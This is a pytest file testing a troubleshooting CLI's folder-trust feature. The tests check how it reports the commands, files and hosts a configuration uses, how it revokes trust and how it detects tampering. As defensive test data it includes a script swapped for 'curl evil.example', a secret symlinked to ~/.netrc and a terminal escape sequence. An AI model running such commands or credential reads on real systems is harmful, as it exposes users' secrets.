"""`trust`, `untrust` and `trust --list`."""

import stat
from pathlib import Path

import pytest

from tests.cli.conftest import Program
from troubleshoot.load.trust.trusted import trust_file
from troubleshoot.model.errors import UsageError

CONFIGURATION = """\
environments:
  prod:
    prometheus:
      url: https://prometheus.example
      bearer: {command: [pass, show, "a b"]}
    jaeger: {tenant: x, basic: {username: u, password: {env: JAEGER_PASSWORD}}}
    elasticsearch:
      url: https://logs.example
      ca_file: /etc/ssl/ours.pem
      secret_headers: {X-Key: {file: ~/.key}}
"""


def trust(program: Program) -> str:
    ran = program("trust", str(program.folder))
    assert ran.code == 0, ran.err
    return ran.out


def test_it_says_what_the_configuration_would_run_read_and_talk_to(program: Program) -> None:
    program.write("troubleshoot.yaml", CONFIGURATION)
    program.write("playbooks/mine.yaml", "x")
    out = trust(program)
    assert out == (
        f"{program.folder}\n"
        "  uses playbooks/mine.yaml\n"
        "  uses troubleshoot.yaml\n"
        "  talks to https://prometheus.example  (prod.prometheus)\n"
        "  runs pass show 'a b'  (prod.prometheus.bearer)\n"
        "  reads the variable JAEGER_PASSWORD  (prod.jaeger.basic.password)\n"
        "  talks to https://logs.example  (prod.elasticsearch)\n"
        "  reads the file /etc/ssl/ours.pem  (prod.elasticsearch)\n"
        "  reads the file ~/.key  (prod.elasticsearch.secret_headers.X-Key)\n"
        "trusted until one of these files changes; "
        f"to take it back: troubleshoot untrust {program.folder}\n"
    )


def test_nothing_it_lists_can_steer_a_terminal(program: Program) -> None:
    text = 'environments: {a: {jaeger: {bearer: {command: ["\\e[2K\\rls"]}}}}\n'
    program.write("troubleshoot.yaml", text)
    assert "\x1b" not in trust(program)


def test_what_was_trusted_is_the_persons_alone_to_read(program: Program) -> None:
    program.write("troubleshoot.yaml", "default: local\n")
    trust(program)
    mode = trust_file(program.folder / "config").stat().st_mode
    assert stat.S_IMODE(mode) == 0o600


def test_trusted_folders_are_listed_with_those_that_changed(program: Program) -> None:
    assert program("trust", "--list").out == ""
    file = program.write("troubleshoot.yaml", "default: local\n")
    trust(program)
    assert program("trust", "--list").out == f"{program.folder}\n"
    file.write_text("default: other\n", encoding="utf-8")
    out = program("trust", "--list").out
    assert out == f"{program.folder}  (has changed since: not used)\n"


def test_trust_is_taken_back(program: Program) -> None:
    program.write("troubleshoot.yaml", "default: local\n")
    trust(program)
    assert program("untrust", str(program.folder)).code == 0
    assert "you have not trusted it" in program("list").err
    again = program("untrust", str(program.folder))
    assert (again.code, "is not trusted" in again.err) == (2, True)


def test_what_cannot_be_trusted_is_refused(program: Program) -> None:
    nothing = program("trust", str(program.folder))
    assert (nothing.code, "there is nothing to trust in" in nothing.err) == (2, True)
    missing = program("trust", "no-such-folder")
    assert (missing.code, "there is no folder no-such-folder" in missing.err) == (2, True)
    which = program("trust")
    assert (which.code, "troubleshoot trust ." in which.err) == (2, True)
    program.write("troubleshoot.yaml", "a: [")
    broken = program("trust", str(program.folder))
    assert (broken.code, "troubleshoot.yaml:1:1: not valid YAML" in broken.err) == (2, True)
    assert not trust_file(program.folder / "config").exists()


@pytest.mark.parametrize("text", ["", "[]", "{", '{"/a": 5}', '{"/a": {"sha256": "x"}}', "\x00"])
def test_a_file_of_trust_that_is_damaged_trusts_nothing_and_is_named(
    program: Program, text: str
) -> None:
    file = program.write("config/trusted.json", text)
    with pytest.raises(
        UsageError, match=r"trusted\.json is not as this program wrote it"
    ) as caught:
        program("list")
    assert str(file) in str(caught.value)


def test_a_program_of_the_folder_that_the_configuration_runs_counts(program: Program) -> None:
    script = program.write("bin/token", "echo a")
    text = "environments: {a: {jaeger: {url: 'http://h', bearer: {command: [sh, bin/token]}}}}\n"
    program.write("troubleshoot.yaml", text)
    trust(program)
    assert program("list").err == ""
    script.write_text("curl evil.example", encoding="utf-8")
    assert "it has changed since you trusted it" in program("list").err


def test_where_a_secret_of_the_folder_leads_counts_and_what_it_holds_does_not(
    program: Program,
) -> None:
    secret = program.write("token", "one")
    text = "environments: {a: {jaeger: {url: 'http://h', bearer: {file: token}}}}\n"
    program.write("troubleshoot.yaml", text)
    trust(program)
    secret.write_text("two", encoding="utf-8")
    assert program("list").err == ""
    secret.unlink()
    secret.symlink_to(Path.home() / ".netrc")
    assert "it has changed since you trusted it" in program("list").err
